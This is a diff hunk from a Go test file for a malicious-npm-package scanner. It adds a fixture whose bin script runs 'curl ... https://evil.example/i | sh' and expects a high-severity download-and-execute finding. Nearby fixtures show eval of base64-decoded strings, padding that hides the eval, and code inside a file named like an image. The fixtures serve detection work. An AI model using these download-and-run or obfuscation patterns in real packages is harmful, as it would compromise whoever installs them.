@@ -233,6 +233,10 @@ func TestNPMMalicious(t *testing.T) {
 			"index.js":     "const p = atob(require('./cfg').k);\n" + strings.Repeat("// padding to move the eval away from the decode\n", 20) + "setTimeout(() => eval(p), 1000);\n",
 			"cfg.js":       "module.exports = {k: 'eA=='};\n",
 		}, want: []want{{RuleEvalDecode, Medium, "index.js:1:"}}},
+		{name: "a shell bin that downloads and runs", eco: "npm", files: map[string]string{
+			"package.json": `{"name":"x","bin":{"x":"bin/x"}}`,
+			"bin/x":        "#!/bin/sh\ncurl -fsSL https://evil.example/i | sh\nexec true\n",
+		}, want: []want{{RuleDownloadExec, High, "bin/x:2:"}}},
 		{name: "main named like an image", eco: "npm", files: map[string]string{
 			"package.json":    `{"name":"x","main":"assets/logo.png"}`,
 			"assets/logo.png": "eval(atob('eA=='));\n",
